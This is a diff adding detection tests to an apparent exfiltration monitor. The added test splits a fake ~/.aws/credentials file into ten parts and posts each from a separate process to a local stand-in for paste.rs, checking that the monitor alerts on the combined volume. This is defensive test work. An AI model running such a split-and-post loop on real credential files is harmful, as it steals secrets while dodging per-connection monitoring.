@@ -126,3 +126,48 @@ def test_reason_names_the_real_reader(monitor, standin, fake_home):
     reason = get(found[-1], "event.reason")
     assert reason.startswith("curl uploaded"), reason
     assert "after cat read ~/.netrc" in reason, reason
+
+
+SEND_PART = """import socket, ssl, sys
+data = open(sys.argv[1], "rb").read()
+c = ssl._create_unverified_context()
+s = c.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[2]))), server_hostname="paste.rs")
+s.sendall(b"POST / HTTP/1.1\\r\\nHost: paste.rs\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n"
+          % len(data) + data)
+s.recv(100)
+"""
+
+
+@pytest.mark.parametrize("parts_sent, expect", [(10, "alert"), (1, "silent")])
+def test_trickle_over_child_processes_adds_up(parts_sent, expect, monitor, standin, fake_home, tmp_path):
+    """`split` cuts ~/.aws/credentials into ten parts and a script posts each from its own
+    process and connection: no single post covers the file, all of them do (T1567.003). The
+    twin posts one part: not the file's worth, silent."""
+    from harness.config import HTTPS_PORT
+    script = tmp_path / "send_part.py"
+    script.write_text(SEND_PART)
+    parts = tmp_path / "parts"
+    parts.mkdir()
+    credentials = fake_home.path / ".aws" / "credentials"
+    size = credentials.stat().st_size
+    cmd = (f"split -n 10 {credentials} {parts}/p; "
+           f"for f in $(ls {parts}/p* | head -n {parts_sent}); do python3 {script} $f {HTTPS_PORT}; done")
+    result = subprocess.run(["bash", "-c", cmd], env=fake_home.env(), capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    if expect == "alert":
+        monitor.poll_for(lambda r: is_alert(r) and get(r, "destination.domain") == "paste.rs", 20)
+    else:
+        monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
+                         and get(r, "destination.domain") == "paste.rs"
+                         and get(r, "process.name", "").startswith("python"), 20, "the post's flow")
+        time.sleep(0.5)
+    monitor.stop()
+    mine = [r for r in monitor.records() if get(r, "destination.domain") == "paste.rs"
+            and str(get(r, "process.name", "")).startswith("python")]
+    if expect == "alert":
+        found = assert_alert(mine, "T1567.003")
+        volume = [s for a in found for s in (get(a, "exfilwatch.signals") or []) if s.get("name") == "data-volume"]
+        assert volume, f"no data-volume signal for the {size}-byte file"
+        assert any("connections" in s.get("evidence", "") for s in volume), volume
+    else:
+        assert_silent(mine)
